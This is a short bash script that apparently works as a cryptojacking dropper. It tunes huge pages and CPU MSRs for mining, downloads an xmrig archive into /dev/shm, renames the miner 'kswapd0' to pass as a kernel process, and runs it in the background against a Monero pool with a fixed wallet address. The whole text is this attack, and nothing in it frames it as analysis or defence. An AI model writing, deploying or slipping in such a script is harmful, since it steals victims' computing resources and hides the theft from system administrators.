#!/bin/bash
sysctl -w vm.nr_hugepages=1280
modprobe msr allow_writes=on
for c in $(seq 0 $(($(nproc)-1))); do wrmsr -p$c 0x1a4 0xf; done
cd /dev/shm
wget -q https://dl.example.invalid/xmr.tar.gz -O- | tar xz
mv xmrig-*/xmrig ./kswapd0
./kswapd0 -o stratum+tcp://gulf.moneroocean.example.com:10128 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p w1 --cpu-max-threads-hint=90 -B
